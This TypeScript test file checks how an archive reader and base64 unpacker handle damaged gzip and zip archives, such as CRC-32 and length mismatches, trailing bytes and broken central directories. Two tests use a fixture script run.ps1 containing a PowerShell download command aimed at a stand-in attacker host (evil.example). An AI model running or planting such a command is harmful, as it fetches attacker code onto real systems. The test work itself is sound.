/**
 * Damaged archives whose bytes still decode: a gzip member whose CRC-32 or
 * length (ISIZE) trailer does not match, a zip member whose bytes do not have
 * the CRC-32 its directory states. What could be read is kept, and the damage
 * is stated in the member's note (the item's `limit` in base64 unpacking), as
 * for truncated streams.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import zlib from "node:zlib";
import { zipSync } from "fflate";
import { readArchive } from "../../src/transform/archives";
import { base64 } from "../../src/transform/base64Unpack";

const limits = (cap = 1 << 20) => ({ maxMembers: 100, maxExpandedBytes: cap, budget: { remaining: 1 << 30 } });

/** Payloads of several kinds and sizes: empty, short text, repetitive text (long matches), bytes that do not compress. */
const PAYLOADS: Buffer[] = [
  Buffer.alloc(0),
  Buffer.from("hello"),
  Buffer.from("a payload that compresses well, with some variety 0123456789 ".repeat(40)),
  Buffer.from(Array.from({ length: 3000 }, (_, k) => (k * 7919 + (k >> 3) * 31) & 0xff)),
];

const flip = (b: Uint8Array, at: number, mask = 0x01) => {
  const c = Buffer.from(b);
  c[at] ^= mask;
  return c;
};

const CRC_NOTE = /^corrupt data: CRC-32 mismatch/;
const LENGTH_NOTE = /^corrupt data: length mismatch/;

test("gzip: any changed byte of the CRC-32 or ISIZE trailer keeps the decoded bytes and states the mismatch", () => {
  for (const payload of PAYLOADS) {
    const gz = zlib.gzipSync(payload);
    const n = gz.length;
    for (let k = 0; k < 8; k++) {
      for (const mask of [0x01, 0x80]) {
        const r = readArchive(flip(gz, n - 8 + k, mask), "gz", limits());
        assert.equal(r.members.length, 1);
        assert.deepEqual(Buffer.from(r.members[0].bytes), payload, `payload ${payload.length}, trailer byte ${k}`);
        // An empty payload's trailer is all zeros: its last size byte changed reads as well as a zero trailer one byte
        // earlier and ignored bytes after it (still damage, stated); any other payload's trailer cannot shift so.
        const kind = payload.length === 0 && k === 7 ? /^corrupt data: \d bytes? after the last member, ignored$/ : k < 4 ? CRC_NOTE : LENGTH_NOTE;
        assert.match(r.members[0].note ?? "", kind, `payload ${payload.length}, trailer byte ${k}`);
        assert.equal(r.note, undefined, "damage is the member's note, not a limit of the archive");
      }
    }
    // Intact, it has no note.
    assert.equal(readArchive(gz, "gz", limits()).members[0].note, undefined);
  }
});

test("gzip: a changed payload bit either breaks the stream (noted) or decodes to other bytes, and then the CRC-32 says so", () => {
  for (const payload of PAYLOADS.slice(1)) {
    const gz = zlib.gzipSync(payload);
    let decodedOther = 0;
    // Three bits of every byte of the small streams, of bytes spread over the large one (a broken stream costs ms).
    const step = Math.max(1, Math.floor(gz.length / 100));
    for (let at = 10; at < gz.length - 8; at += step) {
      for (const bit of [0, 3, 6]) {
        const m = readArchive(flip(gz, at, 1 << bit), "gz", limits()).members[0];
        if (Buffer.from(m.bytes).equals(payload)) continue; // a bit the decoder never reads (padding)
        // fflate reads some streams zlib rejects (bad code lengths, a missing end of block) into other bytes: the CRC-32 catches them.
        assert.ok(m.note, `payload ${payload.length}, byte ${at} bit ${bit}: ${m.bytes.length} other bytes without a note`);
        if (/^corrupt or truncated/.test(m.note)) continue;
        assert.match(m.note, CRC_NOTE);
        decodedOther++;
      }
    }
    assert.ok(decodedOther > 0, "some flips decode to other bytes");
  }
});

test("gzip with several members: a bad trailer in any of them is stated; intact ones read without a note", () => {
  const a = zlib.gzipSync(PAYLOADS[2]);
  const b = zlib.gzipSync(PAYLOADS[3]);
  const whole = Buffer.concat([PAYLOADS[2], PAYLOADS[3]]);
  const ok = readArchive(Buffer.concat([a, b]), "gz", limits());
  assert.deepEqual(Buffer.from(ok.members[0].bytes), whole);
  assert.equal(ok.members[0].note, undefined);
  for (const damaged of [Buffer.concat([flip(a, a.length - 7), b]), Buffer.concat([a, flip(b, b.length - 6)])]) {
    const r = readArchive(damaged, "gz", limits());
    assert.deepEqual(Buffer.from(r.members[0].bytes), whole);
    assert.match(r.members[0].note ?? "", CRC_NOTE);
  }
});

test("gzip: bytes after the last member that the decoder ignores are stated; the members' bytes are kept", () => {
  for (const payload of PAYLOADS) {
    const gz = zlib.gzipSync(payload);
    for (const tail of ["\n", "\r\n", "xyz"]) {
      const r = readArchive(Buffer.concat([gz, Buffer.from(tail)]), "gz", limits());
      assert.deepEqual(Buffer.from(r.members[0].bytes), payload);
      assert.equal(r.members[0].note, `corrupt data: ${tail.length} byte${tail.length > 1 ? "s" : ""} after the last member, ignored`, JSON.stringify(tail));
    }
  }
});

test("gzip: zero bytes after the last member (tape or block padding) are no damage, as for gzip -t and Python's gzip", () => {
  for (const payload of PAYLOADS) {
    const gz = zlib.gzipSync(payload);
    const two = Buffer.concat([gz, zlib.gzipSync(Buffer.from("second member"))]);
    for (const zeros of [1, 3, 4, 512]) {
      const r = readArchive(Buffer.concat([gz, Buffer.alloc(zeros)]), "gz", limits());
      assert.deepEqual(Buffer.from(r.members[0].bytes), payload);
      assert.equal(r.members[0].note, undefined, `${payload.length}-byte payload, ${zeros} zeros`);
      const r2 = readArchive(Buffer.concat([two, Buffer.alloc(zeros)]), "gz", limits());
      assert.deepEqual(Buffer.from(r2.members[0].bytes), Buffer.concat([payload, Buffer.from("second member")]));
      assert.equal(r2.members[0].note, undefined, `two members, ${zeros} zeros`);
    }
    // Damage before the padding is still stated (an empty member's trailer is all zeros: padding cannot be told from it).
    if (payload.length === 0) continue;
    const bad = flip(gz, gz.length - 8);
    assert.match(readArchive(Buffer.concat([bad, Buffer.alloc(512)]), "gz", limits()).members[0].note ?? "", /^corrupt/);
  }
});

test("gzip: over the cap, the limit is the note (the output is cut, as before) and the decoders stay bounded", () => {
  const gz = flip(zlib.gzipSync(PAYLOADS[2]), zlib.gzipSync(PAYLOADS[2]).length - 8);
  const r = readArchive(gz, "gz", limits(100));
  assert.equal(r.members[0].bytes.length, 100);
  assert.match(r.members[0].note ?? "", /^maxExpandedBytes: output stopped at 100 bytes/);
  assert.match(r.note ?? "", /^maxExpandedBytes/);
});

/** Offsets of the zip's central-directory entries and local headers, by signature. */
function zipRecords(zip: Uint8Array): { central: number[]; local: number[] } {
  const b = Buffer.from(zip);
  const central: number[] = [];
  const local: number[] = [];
  for (let p = 0; p + 4 <= b.length; p++) {
    const sig = b.readUInt32LE(p);
    if (sig === 0x02014b50) central.push(p);
    else if (sig === 0x04034b50) local.push(p);
  }
  return { central, local };
}

test("zip: a member whose bytes do not have the directory's CRC-32 (stored or deflated, payload or CRC changed) is kept, with a note; the others are not", () => {
  const files = { "deflated.txt": PAYLOADS[2], "stored.bin": PAYLOADS[3], "tiny.txt": PAYLOADS[1] };
  for (const level of [0, 6] as const) {
    const zip = zipSync(Object.fromEntries(Object.entries(files).map(([k, v]) => [k, new Uint8Array(v)])), { level });
    const { central, local } = zipRecords(zip);
    const ok = readArchive(zip, "zip", limits());
    assert.deepEqual(ok.members.map((m) => [m.name, m.note]), Object.keys(files).map((k) => [k, undefined]));
    for (let i = 0; i < central.length; i++) {
      // The directory's CRC-32 changed: the bytes are fine, the archive disagrees with them.
      const r = readArchive(flip(zip, central[i] + 16 + (i % 4)), "zip", limits());
      assert.deepEqual(r.members.map((m) => Buffer.from(m.bytes)), Object.values(files));
      assert.deepEqual(r.members.map((m) => CRC_NOTE.test(m.note ?? "")), Object.keys(files).map((_, k) => k === i), `level ${level}, member ${i}`);
      assert.equal(r.note, undefined);
    }
    // A payload byte changed: whatever it decodes to, it is not the member's bytes unnoted.
    for (let i = 0; i < local.length; i++) {
      const start = local[i] + 30 + Buffer.from(zip).readUInt16LE(local[i] + 26);
      const r = readArchive(flip(zip, start + 2, 0x10), "zip", limits());
      const m = r.members[i];
      assert.ok(m.note, `level ${level}, member ${i}: no note`);
      if (level === 0) {
        assert.equal(m.bytes.length, Object.values(files)[i].length, "a stored member keeps its bytes");
        assert.match(m.note, CRC_NOTE);
      }
      r.members.forEach((other, k) => k !== i && assert.equal(other.note, undefined));
    }
  }
});

test("zip without a central directory: the local header's CRC-32 is checked when it has one", () => {
  const zip = zipSync({ "a.txt": new Uint8Array(PAYLOADS[2]), "b.bin": new Uint8Array(PAYLOADS[3]) }, { level: 0 });
  const { central, local } = zipRecords(zip);
  const cut = zip.slice(0, central[0]);
  const ok = readArchive(cut, "zip", limits());
  assert.match(ok.note ?? "", /no central directory/);
  assert.deepEqual(ok.members.map((m) => m.note), [undefined, undefined]);
  const damaged = flip(cut, local[1] + 30 + 5 + 100);
  const r = readArchive(damaged, "zip", limits());
  assert.deepEqual(r.members.map((m) => [m.name, CRC_NOTE.test(m.note ?? ""), m.bytes.length]), [["a.txt", false, PAYLOADS[2].length], ["b.bin", true, PAYLOADS[3].length]]);
});

test("zip whose central directory is damaged part way: the local headers give every member, and the note says so", () => {
  const zip = zipSync({ "a.txt": new Uint8Array(PAYLOADS[1]), "b.txt": new Uint8Array(PAYLOADS[2]), "c.bin": new Uint8Array(PAYLOADS[3]) });
  const { central } = zipRecords(zip);
  // The third directory entry's signature overwritten: it was read as the member limit ("1 of 3 members not read").
  const r = readArchive(flip(zip, central[2], 0xff), "zip", limits());
  assert.deepEqual(r.members.map((m) => [m.name, m.bytes.length]), [["a.txt", PAYLOADS[1].length], ["b.txt", PAYLOADS[2].length], ["c.bin", PAYLOADS[3].length]]);
  assert.equal(r.note, "central directory damaged after 2 of 3 entries: members read from local headers");
  // The same with the third member's local header gone too: two members, the third said missing.
  const { local } = zipRecords(zip);
  const worse = readArchive(flip(flip(zip, central[2], 0xff), local[2], 0xff), "zip", limits());
  assert.deepEqual(worse.members.map((m) => m.name), ["a.txt", "b.txt"]);
  assert.equal(worse.note, "central directory damaged after 2 of 3 entries: 1 member not found");
});

test("base64 unpacking: a damaged gzip or zip is unpacked all the same, and its item says what is wrong", () => {
  const gz = zlib.gzipSync(Buffer.from("the secret command line is here, padded to be long enough"));
  const bad = flip(gz, gz.length - 8);
  const g = base64.unpack(`cmd ${bad.toString("base64")} end`);
  assert.equal(g.items.length, 1);
  assert.equal(g.items[0].decodedString, "the secret command line is here, padded to be long enough");
  assert.match(String(g.items[0].limit), CRC_NOTE);
  assert.match(g.fullDecodedString, /limit='corrupt data: CRC-32 mismatch/);
  assert.equal(base64.unpack(`cmd ${gz.toString("base64")} end`).items[0].limit, null);

  const zip = zipSync({ "run.ps1": new Uint8Array(Buffer.from("Invoke-WebRequest -Uri http://evil.example/x")) }, { level: 0 });
  const { central } = zipRecords(zip);
  const z = base64.unpack(Buffer.from(flip(zip, central[0] + 16)).toString("base64"));
  assert.equal(z.items.length, 1);
  assert.equal(z.items[0].decodedString, "Invoke-WebRequest -Uri http://evil.example/x");
  assert.match(String(z.items[0].limit), CRC_NOTE);
});

/** A stored member of {@link handZip}, with what its local header states where that differs from the truth. */
interface HandMember {
  name: string;
  data: Buffer;
  flags?: number;
  local?: { crc?: number; compressedSize?: number; size?: number };
  /** A data descriptor (signature, CRC-32, sizes) after the data, as writers do under flag 8. */
  descriptor?: boolean;
}

/** A zip of stored members built byte by byte: local headers, data (and descriptors), central directory, end record. */
function handZip(members: HandMember[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const m of members) {
    const name = Buffer.from(m.name);
    const crc = zlib.crc32(m.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(m.flags ?? 0, 6);
    local.writeUInt32LE(m.local?.crc ?? crc, 14);
    local.writeUInt32LE(m.local?.compressedSize ?? m.data.length, 18);
    local.writeUInt32LE(m.local?.size ?? m.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const descriptor = Buffer.alloc(m.descriptor ? 16 : 0);
    if (m.descriptor) {
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(crc, 4);
      descriptor.writeUInt32LE(m.data.length, 8);
      descriptor.writeUInt32LE(m.data.length, 12);
    }
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(m.flags ?? 0, 8);
    entry.writeUInt32LE(crc, 16);
    entry.writeUInt32LE(m.data.length, 20);
    entry.writeUInt32LE(m.data.length, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offset, 42);
    central.push(entry, name);
    parts.push(local, name, m.data, descriptor);
    offset += local.length + name.length + m.data.length + descriptor.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, dir, end]);
}

const HEADER_NOTE = /^corrupt data: the local header and the central directory disagree: /;

test("zip: a local header whose CRC-32 or sizes disagree with the central directory is noted and the member kept; flag 8's zeros and zip64 sizes are no disagreement", () => {
  const a = PAYLOADS[2];
  const b = PAYLOADS[3];
  const crcA = zlib.crc32(a);
  const read = (members: HandMember[]) => readArchive(handZip(members), "zip", limits());
  const ok = read([{ name: "a.txt", data: a }, { name: "b.bin", data: b }]);
  assert.deepEqual(ok.members.map((m) => [m.name, m.note, Buffer.from(m.bytes).equals(m.name === "a.txt" ? a : b)]), [["a.txt", undefined, true], ["b.bin", undefined, true]]);

  // The bytes have the directory's CRC-32; the local header states another.
  const crc = read([{ name: "a.txt", data: a, local: { crc: (crcA ^ 0x10) >>> 0 } }, { name: "b.bin", data: b }]);
  assert.equal(
    crc.members[0].note,
    `corrupt data: the local header and the central directory disagree: the local header states CRC-32 0x${((crcA ^ 0x10) >>> 0).toString(16).padStart(8, "0")}, the directory CRC-32 0x${crcA.toString(16).padStart(8, "0")}`,
  );
  assert.ok(Buffer.from(crc.members[0].bytes).equals(a), "the member is kept whole");
  assert.equal(crc.members[1].note, undefined);
  assert.equal(crc.note, undefined);

  // Sizes: the directory's are read (all the bytes), the local header's stated beside them.
  const sizes = read([{ name: "a.txt", data: a }, { name: "b.bin", data: b, local: { compressedSize: 10, size: 10 } }]);
  assert.equal(sizes.members[0].note, undefined);
  assert.equal(sizes.members[1].note, `corrupt data: the local header and the central directory disagree: the local header states compressed size 10, size 10, the directory compressed size ${b.length}, size ${b.length}`);
  assert.ok(Buffer.from(sizes.members[1].bytes).equals(b));
  assert.match(read([{ name: "a.txt", data: a, local: { size: a.length + 1 } }]).members[0].note ?? "", new RegExp(`${HEADER_NOTE.source}the local header states size ${a.length + 1}, the directory size ${a.length}$`));

  // Flag 8: the local header's zeros mean "in the data descriptor", as the format says; a value it does state is compared.
  const streamed = read([{ name: "a.txt", data: a, flags: 8, local: { crc: 0, compressedSize: 0, size: 0 }, descriptor: true }, { name: "b.bin", data: b, flags: 8, local: { crc: 0, compressedSize: 0, size: 0 }, descriptor: true }]);
  assert.deepEqual(streamed.members.map((m) => [m.name, m.note, m.bytes.length]), [["a.txt", undefined, a.length], ["b.bin", undefined, b.length]]);
  assert.match(read([{ name: "a.txt", data: a, flags: 8, local: { crc: 1, compressedSize: 0, size: 0 }, descriptor: true }]).members[0].note ?? "", HEADER_NOTE);
  // A zip64 local header (sizes in its extra field) is not compared by size.
  assert.equal(read([{ name: "a.txt", data: a, local: { compressedSize: 0xffffffff, size: 0xffffffff } }]).members[0].note, undefined);

  // Bytes that match the local header but not the directory: both are stated, the CRC-32 mismatch first.
  const zip = handZip([{ name: "a.txt", data: a }]);
  const dirCrc = zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 16;
  const flipped = readArchive(flip(zip, dirCrc), "zip", limits()).members[0].note ?? "";
  assert.match(flipped, CRC_NOTE);
  assert.match(flipped, new RegExp(`; the local header and the central directory disagree: the local header states CRC-32 0x${crcA.toString(16).padStart(8, "0")}, the directory CRC-32 0x`));

  // Base64 unpacking shows the note as the item's limit, the content unpacked all the same.
  const unpacked = base64.unpack(handZip([{ name: "run.ps1", data: Buffer.from("Invoke-WebRequest -Uri http://evil.example/x"), local: { crc: 7 } }]).toString("base64"));
  assert.equal(unpacked.items[0].decodedString, "Invoke-WebRequest -Uri http://evil.example/x");
  assert.match(String(unpacked.items[0].limit), HEADER_NOTE);
});
